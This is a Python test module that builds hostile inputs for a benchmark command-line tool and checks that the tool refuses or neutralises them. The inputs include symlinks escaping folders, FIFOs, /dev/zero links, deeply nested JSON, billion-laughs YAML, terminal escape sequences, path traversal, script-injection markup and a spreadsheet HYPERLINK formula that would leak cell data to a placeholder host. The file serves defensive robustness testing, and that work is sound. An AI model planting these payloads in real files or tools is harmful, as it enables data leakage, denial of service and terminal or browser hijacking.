"""A corpus of hostile inputs for every kind of file socialbench reads or writes besides the
datasets' own corpora (issue 29): run folders fed back in, sweep plans, caches, annotation
exports, outputs through symbolic links, model replies and label files.

Each case prepares a fresh case folder, then runs one ``socialbench`` command in a *child*
process with an address-space limit (``RLIMIT_AS``: a memory blow-up becomes a failed
allocation, not a swapping machine) and an alarm (a hang ends the child), and checks:

``traceback``  no Python traceback (nor ``MemoryError``) on stdout or stderr
``hang``       the command ends before its alarm
``memory``     no allocation failed under the limit
``outside``    nothing outside the folder the command was told to write (``inside/``, and
               ``home/`` for default caches) was created, changed or removed: every other
               path of the case folder keeps its type, size, mtime and bytes
``escape``     no raw terminal control (ESC, BEL, CSI, bidi overrides) on stdout or stderr
``lost``       files the case names as data keep their bytes (``keep``) or at least their
               old bytes as a prefix (``grow``: a resumed run appends)
``exit``       the command ends the way the case expects: refused (exit 1 with a message
               naming what the case says) or run (exit 0 / 2)
``check``      the case's own check of what was written (e.g. CSV cells, cache entries)

Run as a script to print the per-kind counts (the lead's recount)::

    .venv/bin/python tests/hostile/hostile_corpus.py [KIND ...]

which builds the fixtures in a temporary folder, runs every case (or those of the given
kinds) and prints one line per failing case and a ``kind: passing/total`` table.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import resource
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

#: Address space a child may map (bytes): ~4x what an eval of the fixture maps.
ADDRESS_SPACE_LIMIT = 3 * 1024**3
#: Seconds before a case's child is ended by SIGALRM (the fixture's slowest command takes
#: ~4 s on a loaded 2-core machine).
CASE_ALARM_S = 40
#: Children run at once.
WORKERS = 4
#: Raw terminal controls that must never reach the output.
_RAW_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
#: What a pipe-fed rich console may still print as-is: carriage returns of line ends.
KINDS = ("run folder", "sweep plan", "cache", "annotation export", "output", "model reply", "dataset", "recording")


@dataclass(frozen=True)
class Base:
    """Fixtures every case copies from (never written by a case): a small SocialNav-SUB
    dataset, a finished run of ``mock:first-option`` on it with its response cache and
    render cache (dataset snapshot included), and the address of a local scripted
    OpenAI-compatible server (or "" when none runs)."""

    root: Path
    server_url: str = ""

    @property
    def data(self) -> Path:
        return self.root / "data"

    @property
    def run(self) -> Path:
        return self.root / "run"

    @property
    def random_run(self) -> Path:
        """A finished run of ``baseline:random`` (no images: resumed quickly)."""
        return self.root / "random-run"

    @property
    def cache(self) -> Path:
        return self.root / "cache.sqlite3"

    @property
    def renders(self) -> Path:
        return self.root / "renders"


@dataclass
class Ctx:
    """One case's folder: ``inside`` is the folder the command is told to write, ``outside``
    holds what must stay untouched (link targets, other runs)."""

    base: Base
    folder: Path
    #: Paths (relative to ``folder``) whose bytes must not change / must keep as a prefix.
    keep: list[str] = field(default_factory=list)
    grow: list[str] = field(default_factory=list)
    #: Stopped after the command (e.g. a process holding a lock).
    cleanups: list[Callable[[], None]] = field(default_factory=list)

    @property
    def inside(self) -> Path:
        return self.folder / "inside"

    @property
    def outside(self) -> Path:
        return self.folder / "outside"

    def copy_run(self, to: Path, *, random: bool = False) -> Path:
        shutil.copytree(self.base.random_run if random else self.base.run, to, symlinks=True)
        return to

    def copy_data(self, to: Path) -> Path:
        shutil.copytree(self.base.data, to, symlinks=True)
        return to


Setup = Callable[[Ctx], list[str]]
Check = Callable[[Ctx, "Result"], str | None]


@dataclass(frozen=True)
class Case:
    kind: str
    name: str
    setup: Setup  # prepares the case folder, returns the command's arguments
    refuse: str | None = None  # the command must exit 1 naming this text; None: it must run
    check: Check | None = None
    #: Either outcome is fine (refused, or run with a note) as long as stderr names this text.
    names: str | None = None


@dataclass
class Result:
    kind: str
    name: str
    code: int | None
    stdout: str
    stderr: str
    seconds: float
    failures: list[str] = field(default_factory=list)

    def as_dict(self) -> dict[str, Any]:
        return {
            "kind": self.kind,
            "name": self.name,
            "code": self.code,
            "seconds": round(self.seconds, 2),
            "failures": self.failures,
            "stderr_tail": self.stderr[-600:],
        }


CASES: dict[str, Case] = {}


def case(
    kind: str, name: str, *, refuse: str | None = None, check: Check | None = None, names: str | None = None
) -> Callable[[Setup], Setup]:
    assert kind in KINDS, kind

    def deco(fn: Setup) -> Setup:
        key = f"{kind}: {name}"
        assert key not in CASES, key
        CASES[key] = Case(kind, name, fn, refuse, check, names)
        return fn

    return deco


# --------------------------------------------------------------------------- helpers


def _eval(
    ctx: Ctx, out: Path, *extra: str, model: str = "mock:first-option", data: Path | None = None, limit: int = 1
) -> list[str]:
    return [
        "eval", "-b", "socialnav-sub", "-m", model, "-d", str(data or ctx.base.data), "-o", str(out),
        "--no-progress", "--limit", str(limit), *extra,
    ]  # fmt: skip


def _no_caches() -> list[str]:
    return ["--no-cache", "--no-render-cache"]


def _report(run: Path) -> list[str]:
    return ["report", str(run), "--format", "md,csv", "--no-plots", "--n-boot", "10"]


def _lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(x) for x in path.read_text().splitlines() if x.strip()]


def _write_lines(path: Path, records: Sequence[Any]) -> None:
    path.write_text("".join(json.dumps(r) + "\n" for r in records))


def _edit_record(ctx: Ctx, index: int, change: Callable[[dict[str, Any]], Any]) -> Path:
    run = ctx.copy_run(ctx.inside / "run")
    records = _lines(run / "samples.jsonl")
    records[index] = change(records[index])
    _write_lines(run / "samples.jsonl", records)
    return run


def _edit_json(path: Path, change: Callable[[dict[str, Any]], Any]) -> None:
    path.write_text(json.dumps(change(json.loads(path.read_text()))))


def _fifo(path: Path) -> None:
    if path.exists() or path.is_symlink():
        path.unlink()
    os.mkfifo(path)


def _dev_zero(path: Path) -> None:
    if path.exists() or path.is_symlink():
        path.unlink()
    path.symlink_to("/dev/zero")


def _outside_file(ctx: Ctx, name: str, text: str = "keep\n") -> Path:
    target = ctx.outside / name
    target.write_text(text)
    ctx.keep.append(str(target.relative_to(ctx.folder)))
    return target


HOSTILE_NAME = "m\x1b]0;pwned\x07\x1b[2J[/]"


# --------------------------------------------------------------------------- run folders


@case("run folder", "report: a record whose item_id is a list", names="[item_id]")
def _(ctx: Ctx) -> list[str]:
    return _report(_edit_record(ctx, 1, lambda r: {**r, "item_id": [r["item_id"]]}))


@case("run folder", "score: a record whose question_key is a number", refuse="question_key")
def _(ctx: Ctx) -> list[str]:
    run = _edit_record(ctx, 1, lambda r: {**r, "question_key": 7})
    return ["score", "-b", "socialnav-sub", "-p", str(run), "-d", str(ctx.base.data), "-o", str(ctx.inside / "scored")]


@case("run folder", "report: metrics.json scores that are text", refuse="metrics.json")
def _(ctx: Ctx) -> list[str]:
    run = ctx.copy_run(ctx.inside / "run")
    _edit_json(run / "metrics.json", lambda m: {**m, "scores": "high"})
    return _report(run)


@case("run folder", "report: run.json fields of the wrong type", refuse="run.json")
def _(ctx: Ctx) -> list[str]:
    run = ctx.copy_run(ctx.inside / "run")
    _edit_json(run / "run.json", lambda r: {**r, "sessions": "many", "limit": "1"})
    return _report(run)


@case("run folder", "report: samples.jsonl with invalid UTF-8", names="not UTF-8")
def _(ctx: Ctx) -> list[str]:
    run = ctx.copy_run(ctx.inside / "run")
    with open(run / "samples.jsonl", "ab") as f:
        f.write(b'{"item_id": "\xff\xfe"}\n')
    return _report(run)


@case("run folder", "report: metrics.json nested 100,000 levels", refuse="metrics.json")
def _(ctx: Ctx) -> list[str]:
    run = ctx.copy_run(ctx.inside / "run")
    (run / "metrics.json").write_text("[" * 100_000 + "]" * 100_000)
    return _report(run)


@case("run folder", "report: run.json is a FIFO", refuse="run.json")
def _(ctx: Ctx) -> list[str]:
    run = ctx.copy_run(ctx.inside / "run")
    _fifo(run / "run.json")
    return _report(run)


@case("run folder", "report: run.json links to /dev/zero", refuse="run.json")
def _(ctx: Ctx) -> list[str]:
    run = ctx.copy_run(ctx.inside / "run")
    _dev_zero(run / "run.json")
    return _report(run)


@case("run folder", "score: requests.log is a FIFO")
def _(ctx: Ctx) -> list[str]:
    run = ctx.copy_run(ctx.inside / "run")
    _fifo(run / "requests.log")
    return ["score", "-b", "socialnav-sub", "-p", str(run), "-d", str(ctx.base.data), "-o", str(ctx.inside / "scored")]


@case("run folder", "resume: samples.jsonl links to another run's answers", refuse="samples.jsonl")
def _(ctx: Ctx) -> list[str]:
    other = ctx.copy_run(ctx.outside / "other-run", random=True)
    ctx.keep.append("outside/other-run/samples.jsonl")
    mine = ctx.inside / "run"
    mine.mkdir(parents=True)
    (mine / "samples.jsonl").symlink_to(other / "samples.jsonl")
    return _eval(ctx, mine, *_no_caches(), model="baseline:random")


@case("run folder", "resume: .lock links to a file outside", refuse=".lock")
def _(ctx: Ctx) -> list[str]:
    target = _outside_file(ctx, "precious.txt")
    run = ctx.copy_run(ctx.inside / "run", random=True)
    (run / ".lock").unlink(missing_ok=True)
    (run / ".lock").symlink_to(target)
    return _eval(ctx, run, *_no_caches(), model="baseline:random", limit=2)


@case("run folder", "resume: a planted samples.jsonl.tmp link is not written through")
def _(ctx: Ctx) -> list[str]:
    target = _outside_file(ctx, "precious.txt")
    run = ctx.copy_run(ctx.inside / "run", random=True)
    ctx.grow.append("inside/run/samples.jsonl")
    (run / "samples.jsonl.tmp").symlink_to(target)
    return _eval(ctx, run, *_no_caches(), model="baseline:random", limit=2)


@case("run folder", "report: report/ links to a folder outside", refuse="report")
def _(ctx: Ctx) -> list[str]:
    run = ctx.copy_run(ctx.inside / "run")
    (ctx.outside / "elsewhere").mkdir()
    (run / "report").symlink_to(ctx.outside / "elsewhere")
    return _report(run)


@case("run folder", "score --out: metrics.json links to a file outside", refuse="metrics.json")
def _(ctx: Ctx) -> list[str]:
    target = _outside_file(ctx, "metrics.json", "{}")
    scored = ctx.inside / "scored"
    scored.mkdir(parents=True)
    (scored / "metrics.json").symlink_to(target)
    return ["score", "-b", "socialnav-sub", "-p", str(ctx.base.run), "-d", str(ctx.base.data), "-o", str(scored)]


@case("run folder", "compare: a run whose model and notes carry terminal escapes")
def _(ctx: Ctx) -> list[str]:
    a = ctx.copy_run(ctx.inside / "a")
    b = ctx.copy_run(ctx.inside / "b")
    _edit_json(b / "run.json", lambda r: {**r, "model": HOSTILE_NAME, "note": HOSTILE_NAME})
    return ["compare", str(a), str(b), "--n-boot", "10", "--n-perm", "10", "-o", str(ctx.inside / "cmp")]


def _csv_cells_inert(ctx: Ctx, result: Result) -> str | None:
    for path in ctx.inside.rglob("*.csv"):
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    if cell[:1] in ("=", "+", "@") or (cell.startswith("-") and not _is_number(cell)):
                        return f"{path.name}: formula cell {cell[:40]!r}"
    return None


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@case("run folder", "report: a model named =HYPERLINK(...) lands inert in CSV", check=_csv_cells_inert)
def _(ctx: Ctx) -> list[str]:
    a = ctx.copy_run(ctx.inside / "a")
    b = ctx.copy_run(ctx.inside / "b")
    _edit_json(b / "run.json", lambda r: {**r, "model": '=HYPERLINK("http://x.example/?q="&A1,"click")'})
    return [
        "report",
        str(a),
        str(b),
        "-o",
        str(ctx.inside / "report"),
        "--format",
        "csv",
        "--no-plots",
        "--n-boot",
        "10",
    ]


_MARKUP = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"


def _html_inert(ctx: Ctx, result: Result) -> str | None:
    pages = list(ctx.inside.rglob("*.html"))
    if not pages:
        return "no HTML page written"
    for page in pages:
        text = page.read_text(encoding="utf-8")
        for raw in ("<script>alert", "<img src=x"):
            if raw in text:
                return f"{page.name} holds {raw!r} unescaped"
    return None


@case("run folder", "HTML report of replies and a model name that are markup", check=_html_inert)
def _(ctx: Ctx) -> list[str]:
    run = _edit_record(ctx, 0, lambda r: {**r, "raw": _MARKUP, "error_message": _MARKUP})
    _edit_json(run / "run.json", lambda r: {**r, "model": _MARKUP})
    return ["report", str(run), "--format", "html", "--n-boot", "10", "--images", "none"]


# --------------------------------------------------------------------------- sweep plans


def _plan(ctx: Ctx, text: str) -> Path:
    """``text`` after a plan of baseline:random on the fixture (unless it names its models)."""
    path = ctx.outside / "plan.yaml"
    head = "" if "models:" in text else f"models: [baseline:random]\n{_benchmarks(ctx)}"
    path.write_text(head + text)
    ctx.keep.append("outside/plan.yaml")
    return path


def _benchmarks(ctx: Ctx) -> str:
    return f"benchmarks: [{{name: socialnav-sub, data: {json.dumps(str(ctx.base.data))}}}]\n"


def _sweep(plan: Path, ctx: Ctx, *extra: str) -> list[str]:
    return ["sweep", str(plan), "-o", str(ctx.inside / "sweep"), *extra]


@case("sweep plan", "YAML nested 50,000 levels", refuse="plan.yaml")
def _(ctx: Ctx) -> list[str]:
    return _sweep(_plan(ctx, "options: {limit: " + "[" * 50_000 + "]" * 50_000 + "}\n"), ctx, "--dry-run")


@case("sweep plan", "billion laughs aliases", refuse="plan.yaml")
def _(ctx: Ctx) -> list[str]:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        prev, cur = chr(ord("a") + i - 1), chr(ord("a") + i)
        lines.append(f"{cur}: &{cur} [{', '.join(['*' + prev] * 9)}]")
    return _sweep(_plan(ctx, "\n".join(lines) + "\naxes: {method: *i}\n"), ctx, "--dry-run")


@case("sweep plan", "a 10^6-cell grid with --dry-run", refuse="cells")
def _(ctx: Ctx) -> list[str]:
    axis = "[" + ", ".join(str(i) for i in range(1, 1001)) + "]"
    return _sweep(_plan(ctx, f"axes: {{seed: {axis}, limit: {axis}}}\n"), ctx, "--dry-run")


@case("sweep plan", "the plan is a FIFO", refuse="plan.yaml")
def _(ctx: Ctx) -> list[str]:
    path = ctx.outside / "plan.yaml"
    os.mkfifo(path)
    return _sweep(path, ctx, "--dry-run")


@case("sweep plan", "the plan links to /dev/zero", refuse="plan.yaml")
def _(ctx: Ctx) -> list[str]:
    path = ctx.outside / "plan.yaml"
    path.symlink_to("/dev/zero")
    return _sweep(path, ctx, "--dry-run")


@case("sweep plan", "concurrency 0", refuse="concurrency")
def _(ctx: Ctx) -> list[str]:
    return _sweep(_plan(ctx, "options: {concurrency: 0, limit: 1}\n"), ctx, "--dry-run")


@case("sweep plan", "a NaN timeout", refuse="timeout")
def _(ctx: Ctx) -> list[str]:
    return _sweep(_plan(ctx, "options: {timeout: .nan, limit: 1}\n"), ctx, "--dry-run")


@case("sweep plan", "a model name with terminal escapes and rich markup (dry run)", refuse="is unknown")
def _(ctx: Ctx) -> list[str]:
    # no mock model has this name: the plan check refuses it, printing the name inert
    name = json.dumps("mock:first-option" + "\x1b]0;pwned\x07[/]")
    text = f"models: [{name}]\n{_benchmarks(ctx)}options: {{limit: 1}}\n"
    return _sweep(_plan(ctx, text), ctx, "--dry-run")


def _two_cells(ctx: Ctx, result: Result) -> str | None:
    cells = [p for p in (ctx.inside / "sweep").rglob("run.json")]
    return None if len(cells) == 2 else f"{len(cells)} cell folders, not 2 (one model overwrote the other)"


@case("sweep plan", "two models differing only in URL credentials keep two folders", check=_two_cells)
def _(ctx: Ctx) -> list[str]:
    url = ctx.base.server_url.replace("http://", "")
    models = [f"openai:m@http://u1:p1@{url}", f"openai:m@http://u2:p2@{url}"]
    text = (
        f"models: {json.dumps(models)}\n{_benchmarks(ctx)}"
        "options: {limit: 1, no_cache: true, no_render_cache: true, timeout: 20}\n"
    )
    return _sweep(_plan(ctx, text), ctx, "--jobs", "1")


# --------------------------------------------------------------------------- caches


def _copy_cache(ctx: Ctx) -> Path:
    path = ctx.inside / "cache.sqlite3"
    ctx.inside.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(ctx.base.cache, path)
    return path


def _all_answered(ctx: Ctx, result: Result) -> str | None:
    records = _lines(ctx.inside / "run" / "samples.jsonl")
    bad = [r for r in records if r.get("error")]
    return f"{len(bad)} of {len(records)} questions failed ({bad[0].get('error_message')!r})" if bad else None


@case("cache", "response cache rows whose usage is not JSON", check=_all_answered)
def _(ctx: Ctx) -> list[str]:
    path = _copy_cache(ctx)
    with sqlite3.connect(path) as db:
        db.execute("UPDATE responses SET usage = '{not json'")
    return _eval(ctx, ctx.inside / "run", "--cache", str(path), "--no-render-cache")


@case("cache", "response cache columns of the wrong type", check=_all_answered)
def _(ctx: Ctx) -> list[str]:
    path = _copy_cache(ctx)
    with sqlite3.connect(path) as db:
        db.execute("ALTER TABLE responses RENAME TO old")
        db.execute("CREATE TABLE responses (key TEXT PRIMARY KEY, model, text, usage, created, reasoning)")
        db.execute("INSERT INTO responses SELECT key, model, 7, x'00ff', created, NULL FROM old")
        db.execute("DROP TABLE old")
    return _eval(ctx, ctx.inside / "run", "--cache", str(path), "--no-render-cache")


@case("cache", "response cache locked by another process", check=_all_answered)
def _(ctx: Ctx) -> list[str]:
    path = _copy_cache(ctx)
    with sqlite3.connect(path) as db:
        db.execute("DELETE FROM responses")  # every answer must be written: each one meets the lock
    holder = subprocess.Popen(
        [sys.executable, "-c", _HOLD_LOCK, str(path)], stdout=subprocess.PIPE, stdin=subprocess.PIPE, text=True
    )
    assert holder.stdout is not None and holder.stdout.readline().strip() == "locked"

    def release() -> None:
        holder.kill()
        holder.wait()

    ctx.cleanups.append(release)
    return _eval(ctx, ctx.inside / "run", "--cache", str(path), "--no-render-cache")


_HOLD_LOCK = """
import sqlite3, sys
db = sqlite3.connect(sys.argv[1], isolation_level=None)
db.execute("BEGIN EXCLUSIVE")
print("locked", flush=True)
sys.stdin.read()
"""


@case("cache", "--cache is a FIFO", refuse="cache")
def _(ctx: Ctx) -> list[str]:
    ctx.inside.mkdir(parents=True)
    _fifo(ctx.inside / "cache.sqlite3")
    return _eval(
        ctx,
        ctx.inside / "run",
        "--cache",
        str(ctx.inside / "cache.sqlite3"),
        "--no-render-cache",
        model="baseline:random",
    )


def _copy_renders(ctx: Ctx) -> Path:
    renders = ctx.inside / "renders"
    shutil.copytree(ctx.base.renders, renders, symlinks=True)
    return renders


def _decodes(data: bytes) -> bool:
    import io

    from PIL import Image

    try:
        with Image.open(io.BytesIO(data)) as im:
            im.load()
    except Exception:  # any decoding failure: the image is not whole
        return False
    return True


def _entries_whole(ctx: Ctx, result: Result) -> str | None:
    """Every render-cache entry left after the run holds images that decode in full (read
    with Pillow, not with the cache's own code): an entry cut short was replaced, so what
    the model was sent was whole."""
    problem = _all_answered(ctx, result)
    if problem:
        return problem
    entries = sorted((ctx.inside / "renders").glob("??/*.img"))
    bad = []
    for entry in entries:
        head, _, body = entry.read_bytes().partition(b"\n")
        pos = 0
        for m in json.loads(head)["images"]:
            if not _decodes(body[pos : pos + m["size"]]):
                bad.append(entry.name)
                break
            pos += m["size"]
    return f"{len(bad)} of {len(entries)} render-cache entries hold images that do not decode" if bad else None


@case("cache", "render-cache entries truncated with their header rewritten to match", check=_entries_whole)
def _(ctx: Ctx) -> list[str]:
    renders = _copy_renders(ctx)
    for entry in renders.glob("??/*.img"):
        head, _, body = entry.read_bytes().partition(b"\n")
        meta = json.loads(head)
        out, pos = [], 0
        for m in meta["images"]:
            data = body[pos : pos + m["size"]][: m["size"] // 2]
            pos += m["size"]
            m["size"] = len(data)
            m["sha256"] = hashlib.sha256(data).hexdigest()
            out.append(data)
        entry.write_bytes(json.dumps(meta).encode() + b"\n" + b"".join(out))
    return _eval(ctx, ctx.inside / "run", "--no-cache", "--render-cache", str(renders))


@case("cache", "render-cache entries and the dataset snapshot are FIFOs", check=_all_answered, names="dataset snapshot")
def _(ctx: Ctx) -> list[str]:
    renders = _copy_renders(ctx)
    for entry in [*renders.glob("??/*.img"), *renders.glob("datasets/*.snapshot")]:
        _fifo(entry)
    return _eval(ctx, ctx.inside / "run", "--no-cache", "--render-cache", str(renders))


@case(
    "cache",
    "render-cache entries and the dataset snapshot link to /dev/zero",
    check=_all_answered,
    names="dataset snapshot",
)
def _(ctx: Ctx) -> list[str]:
    renders = _copy_renders(ctx)
    for entry in [*renders.glob("??/*.img"), *renders.glob("datasets/*.snapshot")]:
        _dev_zero(entry)
    return _eval(ctx, ctx.inside / "run", "--no-cache", "--render-cache", str(renders))


# --------------------------------------------------------------------------- annotation exports

_TASK: dict[str, Any] = {
    "id": 1,
    "data": {"kind": "judgment", "item_id": "s1", "k": 1, "behavior": "Wave"},
    "annotations": [
        {
            "id": 10,
            "completed_by": 1,
            "updated_at": "2024-01-01T10:00:00Z",
            "result": [{"from_name": "label", "value": {"choices": ["proper"]}}],
        }
    ],
}


def _import(ctx: Ctx, export: Path) -> list[str]:
    return ["build", "annotate", "import", str(export), "--work", str(ctx.inside / "work")]


def _export_with(ctx: Ctx, change: Callable[[dict[str, Any]], None]) -> Path:
    task = json.loads(json.dumps(_TASK))
    change(task)
    path = ctx.outside / "export.json"
    path.write_text(json.dumps([task]))
    ctx.keep.append("outside/export.json")
    return path


def _set(path: Sequence[Any], value: Any) -> Callable[[dict[str, Any]], None]:
    def change(task: dict[str, Any]) -> None:
        node: Any = task
        for step in path[:-1]:
            node = node[step]
        node[path[-1]] = value

    return change


for _name, _path, _value, _field in [
    ("k is text", ("data", "k"), "one", "data.k"),
    ("result is a number", ("annotations", 0, "result"), 5, "result"),
    ("value is text", ("annotations", 0, "result", 0, "value"), "choices", "value"),
    ("choices is a number", ("annotations", 0, "result", 0, "value", "choices"), 5, "choices"),
    ("a label with terminal escapes", ("annotations", 0, "result", 0, "value", "choices"), ["\x1b[2Jx"], "label"),
]:
    case("annotation export", _name, refuse=_field)(
        lambda ctx, _p=_path, _v=_value: _import(ctx, _export_with(ctx, _set(_p, _v)))
    )


@case("annotation export", "k is missing", refuse="data.k")
def _(ctx: Ctx) -> list[str]:
    return _import(ctx, _export_with(ctx, lambda t: t["data"].pop("k")))


@case("annotation export", "an annotator named with terminal escapes")
def _(ctx: Ctx) -> list[str]:
    return _import(ctx, _export_with(ctx, _set(("annotations", 0, "completed_by"), {"email": HOSTILE_NAME})))


@case("annotation export", "the export is a FIFO", refuse="export.json")
def _(ctx: Ctx) -> list[str]:
    _fifo(ctx.outside / "export.json")
    return _import(ctx, ctx.outside / "export.json")


@case("annotation export", "the export links to /dev/zero", refuse="export.json")
def _(ctx: Ctx) -> list[str]:
    _dev_zero(ctx.outside / "export.json")
    return _import(ctx, ctx.outside / "export.json")


# --------------------------------------------------------------------------- outputs


@case("output", "resume: requests.log links to a file outside", refuse="requests.log")
def _(ctx: Ctx) -> list[str]:
    target = _outside_file(ctx, "requests.log")
    run = ctx.copy_run(ctx.inside / "run", random=True)
    (run / "requests.log").unlink(missing_ok=True)
    (run / "requests.log").symlink_to(target)
    return _eval(ctx, run, *_no_caches(), model="baseline:random", limit=2)


@case("output", "a build work folder holding a link to a file outside", refuse="taxonomy.jsonl")
def _(ctx: Ctx) -> list[str]:
    target = _outside_file(ctx, "taxonomy.jsonl")
    work = ctx.inside / "work"
    work.mkdir(parents=True)
    (work / "taxonomy.jsonl").symlink_to(target)
    return ["build", "taxonomy", "-w", str(work)]


@case("output", "a model name with terminal escapes on the command line", refuse="m\\x1b")
def _(ctx: Ctx) -> list[str]:
    return _eval(ctx, ctx.inside / "run", *_no_caches(), model=f"mock:{HOSTILE_NAME}")


@case("output", "report of a run whose model name and note carry terminal escapes")
def _(ctx: Ctx) -> list[str]:
    run = ctx.copy_run(ctx.inside / "run")
    _edit_json(run / "run.json", lambda r: {**r, "model": HOSTILE_NAME, "note": HOSTILE_NAME})
    return _report(run)


# --------------------------------------------------------------------------- model replies


def _replies_parsed(ctx: Ctx, result: Result) -> str | None:
    records = _lines(ctx.inside / "run" / "samples.jsonl")
    failed = [r for r in records if r.get("error") not in (None, "invalid")]
    return f"{len(failed)} questions failed: {failed[0].get('error_message')!r}" if failed else None


def _reply_case(ctx: Ctx, reply: str) -> list[str]:
    model = f"openai:{_reply_model(reply)}@{ctx.base.server_url}"
    return _eval(ctx, ctx.inside / "run", *_no_caches(), "--timeout", "20", model=model)


def _reply_model(reply: str) -> str:
    tag = hashlib.sha256(reply.encode("utf-8", "surrogatepass")).hexdigest()[:12]
    _REPLIES[tag] = reply
    return f"reply-{tag}"


_REPLIES: dict[str, str] = {}


@case("model reply", "192 KB of a repeated negated option", check=_replies_parsed)
def _(ctx: Ctx) -> list[str]:
    return _reply_case(ctx, "not behind, " * 16_000)


@case("model reply", "a reply with terminal escapes and a lone surrogate", check=_replies_parsed)
def _(ctx: Ctx) -> list[str]:
    return _reply_case(ctx, '{"answer": "\x1b]0;pwned\x07\x1b[2J"} \ud800')


@case("model reply", "a 1 MB reply of one word", check=_replies_parsed)
def _(ctx: Ctx) -> list[str]:
    return _reply_case(ctx, "ahead" * 200_000)


def reply_responder(body: dict[str, Any]) -> str:
    """The scripted server's answer: the reply registered for the request's model name,
    else the first option of the prompt."""
    from socialbench.testing.responders import first_option_responder

    model = str(body.get("model", ""))
    if model.startswith("reply-"):
        return _REPLIES.get(model[len("reply-") :], "")
    return first_option_responder(body)


# --------------------------------------------------------------------------- datasets


@case("dataset", "vote probabilities that are not whole votes (0.5 + 0.5 of 3)", refuse="not whole votes")
def _(ctx: Ctx) -> list[str]:
    data = ctx.copy_data(ctx.outside / "data")
    labels = sorted((data / "human_labels").glob("*/common_answers.json"))[0]
    key = "q_robot_moving_direction"
    _edit_json(
        labels,
        lambda d: {
            **d,
            key: [["moving ahead"], ["turning left"]],
            f"{key}_probabilities": [0.5, 0.5],
            f"{key}_n_answers": 3,
        },
    )
    return _eval(ctx, ctx.inside / "run", *_no_caches(), model="baseline:random", data=data)


@case("dataset", "a label file that is a FIFO", refuse="common_answers.json")
def _(ctx: Ctx) -> list[str]:
    data = ctx.copy_data(ctx.outside / "data")
    _fifo(sorted((data / "human_labels").glob("*/common_answers.json"))[0])
    return ["data", "validate", "-b", "socialnav-sub", "-d", str(data)]


# --------------------------------------------------------------------------- recordings


def _folder_recording(ctx: Ctx, n: int = 24) -> Path:
    """A plain-folder recording of ``n`` tiny frames at 4 Hz (outside/rec), no boxes."""
    from PIL import Image

    rec = ctx.outside / "rec"
    rec.mkdir(parents=True)
    rows = ["file,time\n"]
    for i in range(n):
        Image.new("RGB", (32, 18), (i, i, i)).save(rec / f"{i}.png")
        rows.append(f"{i}.png,{i * 0.25}\n")
    (rec / "frames.csv").write_text("".join(rows))
    (rec / "odometry.csv").write_text("time,x,y,yaw\n" + "".join(f"{i * 0.25},{i * 0.2},0,0\n" for i in range(n)))
    (rec / "calibration.yaml").write_text(
        "camera_matrix: {fx: 20, fy: 20, cx: 16, cy: 9}\nwidth: 32\nheight: 18\ncamera_height: 0.6\n"
    )
    return rec


def _build_args(ctx: Ctx, rec: Path, boxes: Path) -> list[str]:
    return ["build", "socialnav", "--recording", str(rec), "--boxes", str(boxes), "--out", str(ctx.inside / "data")]


@case("recording", "a recording that is a FIFO", refuse="not a regular file")
def _(ctx: Ctx) -> list[str]:
    ctx.outside.mkdir(parents=True, exist_ok=True)
    _fifo(ctx.outside / "rec.mcap")
    (ctx.outside / "boxes.txt").write_text("")
    return _build_args(ctx, ctx.outside / "rec.mcap", ctx.outside / "boxes.txt")


@case("recording", "frames.csv naming a file outside the recording folder", refuse="outside the folder")
def _(ctx: Ctx) -> list[str]:
    rec = _folder_recording(ctx)
    _outside_file(ctx, "secret.png")
    (rec / "frames.csv").write_text("file,time\n../secret.png,0.0\n")
    (ctx.outside / "boxes.txt").write_text("")
    return _build_args(ctx, rec, ctx.outside / "boxes.txt")


@case("recording", "a boxes file that is a link to /dev/zero", refuse="not a regular file")
def _(ctx: Ctx) -> list[str]:
    rec = _folder_recording(ctx)
    _dev_zero(ctx.outside / "boxes.txt")
    return _build_args(ctx, rec, ctx.outside / "boxes.txt")


@case("recording", "a boxes row with a terminal escape in a cell", refuse="not a number")
def _(ctx: Ctx) -> list[str]:
    rec = _folder_recording(ctx)
    (ctx.outside / "boxes.txt").write_text("1,1,\x1b[2J,1,1,1,1,-1,-1,-1\n")
    return _build_args(ctx, rec, ctx.outside / "boxes.txt")


@case("recording", "the output folder is a link out of the named folder", refuse="symbolic link")
def _(ctx: Ctx) -> list[str]:
    rec = _folder_recording(ctx)
    (ctx.outside / "boxes.txt").write_text("1,1,10,5,4,10,1,-1,-1,-1\n")
    (ctx.outside / "target").mkdir()
    ctx.inside.mkdir(parents=True, exist_ok=True)
    (ctx.inside / "data").symlink_to(ctx.outside / "target")
    return _build_args(ctx, rec, ctx.outside / "boxes.txt")


# --------------------------------------------------------------------------- running


def _limits() -> None:  # pragma: no cover - runs in the child before exec
    resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE_LIMIT, ADDRESS_SPACE_LIMIT))
    signal.alarm(CASE_ALARM_S)  # kept across exec: SIGALRM ends a hung command
    os.setsid()


def _tree(folder: Path, skip: Sequence[Path]) -> dict[str, tuple[Any, ...]]:
    """(type, size, mtime, digest) of every path under ``folder`` not under ``skip``; FIFOs
    and links are never opened."""
    out: dict[str, tuple[Any, ...]] = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        here = Path(dirpath)
        dirnames[:] = [d for d in dirnames if here / d not in skip]
        for name in [*dirnames, *filenames]:
            path = here / name
            if path in skip:
                continue
            st = path.lstat()
            if path.is_symlink():
                out[str(path.relative_to(folder))] = ("link", os.readlink(path))
            elif path.is_file():
                digest = hashlib.sha256(path.read_bytes()).hexdigest()
                out[str(path.relative_to(folder))] = ("file", st.st_size, st.st_mtime_ns, digest)
            else:
                out[str(path.relative_to(folder))] = ("other", st.st_mode)
    return out


def child_env(home: Path) -> dict[str, str]:
